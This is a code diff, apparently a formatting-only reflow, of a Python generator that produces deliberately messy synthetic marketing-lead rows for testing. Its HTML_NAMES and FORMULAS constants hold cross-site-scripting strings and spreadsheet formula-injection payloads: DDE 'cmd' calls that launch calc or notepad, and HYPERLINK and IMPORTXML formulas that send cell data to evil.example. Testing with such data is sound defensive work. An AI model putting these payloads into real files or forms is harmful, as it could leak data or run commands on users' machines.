@@ -22,17 +22,36 @@ from funnelflow.synth.people import STREAM_ARRIVALS, generate_people, object_fra
 
 # The canonical export columns, in the order of the "plain" header style.
 EXPORT_COLUMNS = (
-    "email", "first_name", "last_name", "company", "job_title", "phone", "country", "consent", "do_not_email",
-    "utm_source", "utm_medium", "utm_campaign", "utm_term", "utm_content",
-    "lead_source", "registered_at", "attended", "joined_at",
+    "email",
+    "first_name",
+    "last_name",
+    "company",
+    "job_title",
+    "phone",
+    "country",
+    "consent",
+    "do_not_email",
+    "utm_source",
+    "utm_medium",
+    "utm_campaign",
+    "utm_term",
+    "utm_content",
+    "lead_source",
+    "registered_at",
+    "attended",
+    "joined_at",
 )
 # What ``_mess`` says about a row's address.
 MESS_KINDS = ("", "repeat", "broken", "disposable", "role", "missing_email", "no_contact")
 
 HTML_NAMES = ("<script>alert('x')</script>", "<b>{}</b>", "{}<img src=x onerror=alert(1)>", "<i>{}</i>")
 FORMULAS = (
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=1+2", "-2+3+cmd|' /C notepad'!A0", "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=1+2",
+    "-2+3+cmd|' /C notepad'!A0",
+    '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
 )
 PLUS_TAGS = ("news", "webinar", "ads", "crm", "work", "2026")
 
@@ -142,16 +161,34 @@ def make_arrivals(
     rng = rng_for(seed, STREAM_ARRIVALS)
 
     # Row order: each person once, plus repeats of people drawn from the list, shuffled.
-    person = np.concatenate([np.arange(n_people), rng.integers(0, max(n_people, 1), size=n_repeat) if n_people else []])
+    person = np.concatenate(
+        [np.arange(n_people), rng.integers(0, max(n_people, 1), size=n_repeat) if n_people else []]
+    )
     person = person.astype(np.int64)
     is_repeat = np.concatenate([np.zeros(n_people, bool), np.ones(n_repeat, bool)])
     order = rng.permutation(rows)
     person, is_repeat = person[order], is_repeat[order]
     # The first time a person appears in the file is the original, whichever copy it is.
-    first_pos = pd.Series(np.arange(rows)).groupby(person).transform("min").to_numpy() if rows else np.array([], np.int64)
+    first_pos = (
+        pd.Series(np.arange(rows)).groupby(person).transform("min").to_numpy()
+        if rows
+        else np.array([], np.int64)
+    )
     is_repeat = np.arange(rows) != first_pos
 
-    src = {c: people[c].to_numpy(dtype=object)[person] for c in ("email", "first_name", "last_name", "company", "job_title", "phone", "country", "company_domain")}
+    src = {
+        c: people[c].to_numpy(dtype=object)[person]
+        for c in (
+            "email",
+            "first_name",
+            "last_name",
+            "company",
+            "job_title",
+            "phone",
+            "country",
+            "company_domain",
+        )
+    }
     email = src["email"].copy()
     mess = np.full(rows, "", dtype=object)
     mess[is_repeat] = "repeat"
@@ -179,14 +216,18 @@ def make_arrivals(
         local = email[i].split("@", 1)[0]
         email[i] = f"{local}@{vocab.DISPOSABLE_DOMAINS[int(rng.integers(len(vocab.DISPOSABLE_DOMAINS)))]}"
     for i in chosen["role"]:
-        email[i] = f"{vocab.ROLE_LOCAL_PARTS[int(rng.integers(len(vocab.ROLE_LOCAL_PARTS)))]}@{src['company_domain'][i]}"
+        email[i] = (
+            f"{vocab.ROLE_LOCAL_PARTS[int(rng.integers(len(vocab.ROLE_LOCAL_PARTS)))]}@{src['company_domain'][i]}"
+        )
     email[chosen["missing_email"]] = None
     email[chosen["no_contact"]] = None
     phone = src["phone"].copy()
     # Someone with no address was reachable by phone, or the row is useless (no_contact).
     need_phone = chosen["missing_email"][pd.isna(phone[chosen["missing_email"]])]
     if len(need_phone):
-        phone[need_phone] = [f"+1 646 {200 + (int(i) // 10000) % 800:03d} {int(i) % 10000:04d}" for i in need_phone]
+        phone[need_phone] = [
+            f"+1 646 {200 + (int(i) // 10000) % 800:03d} {int(i) % 10000:04d}" for i in need_phone
+        ]
     phone[chosen["no_contact"]] = None
 
     first, last = src["first_name"].copy(), src["last_name"].copy()
@@ -196,7 +237,13 @@ def make_arrivals(
     first[shout] = np.array([str(v).upper() for v in first[shout]], dtype=object)
     last[shout] = np.array([str(v).upper() for v in last[shout]], dtype=object)
 
-    fields = {"first_name": first, "last_name": last, "company": company, "job_title": title, "country": country}
+    fields = {
+        "first_name": first,
+        "last_name": last,
+        "company": company,
+        "job_title": title,
+        "country": country,
+    }
     field_names = list(fields)
     missing = np.flatnonzero(rng.random(rows) < rates.missing_field)
     which = rng.integers(0, len(field_names), size=len(missing))
@@ -206,7 +253,11 @@ def make_arrivals(
     for i in ws:
         arr = fields[field_names[int(rng.integers(0, 4))]]
         if arr[i]:
-            arr[i] = (" ", "  ", "\t", "")[int(rng.integers(4))] + str(arr[i]).replace(" ", "  ", 1) + (" ", "  ", "\t", " ")[int(rng.integers(4))]
+            arr[i] = (
+                (" ", "  ", "\t", "")[int(rng.integers(4))]
+                + str(arr[i]).replace(" ", "  ", 1)
+                + (" ", "  ", "\t", " ")[int(rng.integers(4))]
+            )
     for i in np.flatnonzero(rng.random(rows) < rates.html):
         first[i] = HTML_NAMES[int(rng.integers(len(HTML_NAMES)))].replace("{}", str(first[i] or "Max"))
     for i in np.flatnonzero(rng.random(rows) < rates.formula):
@@ -214,7 +265,11 @@ def make_arrivals(
         target[i] = FORMULAS[int(rng.integers(len(FORMULAS)))]
     for i in np.flatnonzero(rng.random(rows) < rates.newline):
         if company[i]:
-            company[i] = f"{company[i]}\nAbteilung Vertrieb" if rng.random() < 0.5 else f"{company[i]}\r\nc/o Marketing"
+            company[i] = (
+                f"{company[i]}\nAbteilung Vertrieb"
+                if rng.random() < 0.5
+                else f"{company[i]}\r\nc/o Marketing"
+            )
         elif title[i]:
             title[i] = f"{title[i]}\n(interim)"
 
@@ -223,11 +278,19 @@ def make_arrivals(
     us_i = rng.choice(len(utm_sources), size=rows, p=utm_p / utm_p.sum())
     utm_source = np.array(utm_sources, dtype=object)[us_i]
     med_pick = rng.integers(0, 100, size=rows)
-    utm_medium = np.array([vocab.UTM_SOURCES[utm_sources[s]][0][m % len(vocab.UTM_SOURCES[utm_sources[s]][0])] for s, m in zip(us_i, med_pick, strict=True)], dtype=object)
+    utm_medium = np.array(
+        [
+            vocab.UTM_SOURCES[utm_sources[s]][0][m % len(vocab.UTM_SOURCES[utm_sources[s]][0])]
+            for s, m in zip(us_i, med_pick, strict=True)
+        ],
+        dtype=object,
+    )
     campaigns = np.array(vocab.UTM_CAMPAIGNS, dtype=object)
     utm_campaign = campaigns[rng.integers(0, len(campaigns), size=rows)]
     utm_term = np.array(vocab.UTM_TERMS, dtype=object)[rng.integers(0, len(vocab.UTM_TERMS), size=rows)]
-    utm_content = np.array(vocab.UTM_CONTENTS, dtype=object)[rng.integers(0, len(vocab.UTM_CONTENTS), size=rows)]
+    utm_content = np.array(vocab.UTM_CONTENTS, dtype=object)[
+        rng.integers(0, len(vocab.UTM_CONTENTS), size=rows)
+    ]
     no_utm = rng.random(rows) < 0.35
     for arr in (utm_source, utm_medium, utm_campaign, utm_term, utm_content):
         arr[no_utm] = None
@@ -236,21 +299,40 @@ def make_arrivals(
 
     consent = rng.random(rows) < rates.consent_given
     dne = rng.random(rows) < rates.do_not_email
-    lead_source = np.array(vocab.LEAD_SOURCES, dtype=object)[rng.integers(0, len(vocab.LEAD_SOURCES), size=rows)]
+    lead_source = np.array(vocab.LEAD_SOURCES, dtype=object)[
+        rng.integers(0, len(vocab.LEAD_SOURCES), size=rows)
+    ]
     registered = _timestamps(rng, rows, until, weeks)
     attended = rng.random(rows) < 0.55
     joined = registered + rng.integers(3600, 14 * 86400, size=rows).astype("timedelta64[s]")
-    joined = np.minimum(joined, np.datetime64(until.astimezone(UTC).replace(tzinfo=None), "s") - np.timedelta64(60, "s"))
+    joined = np.minimum(
+        joined, np.datetime64(until.astimezone(UTC).replace(tzinfo=None), "s") - np.timedelta64(60, "s")
+    )
 
-    frame = object_frame({
-        "email": email, "first_name": first, "last_name": last, "company": company, "job_title": title,
-        "phone": phone, "country": country, "consent": consent, "do_not_email": dne,
-        "utm_source": utm_source, "utm_medium": utm_medium, "utm_campaign": utm_campaign,
-        "utm_term": utm_term, "utm_content": utm_content, "lead_source": lead_source,
-        "registered_at": pd.to_datetime(registered).tz_localize("UTC"), "attended": attended,
-        "joined_at": pd.to_datetime(np.where(attended, joined, np.datetime64("NaT"))).tz_localize("UTC"),
-        "_person": person, "_mess": mess,
-    })
+    frame = object_frame(
+        {
+            "email": email,
+            "first_name": first,
+            "last_name": last,
+            "company": company,
+            "job_title": title,
+            "phone": phone,
+            "country": country,
+            "consent": consent,
+            "do_not_email": dne,
+            "utm_source": utm_source,
+            "utm_medium": utm_medium,
+            "utm_campaign": utm_campaign,
+            "utm_term": utm_term,
+            "utm_content": utm_content,
+            "lead_source": lead_source,
+            "registered_at": pd.to_datetime(registered).tz_localize("UTC"),
+            "attended": attended,
+            "joined_at": pd.to_datetime(np.where(attended, joined, np.datetime64("NaT"))).tz_localize("UTC"),
+            "_person": person,
+            "_mess": mess,
+        }
+    )
     return frame
 
 
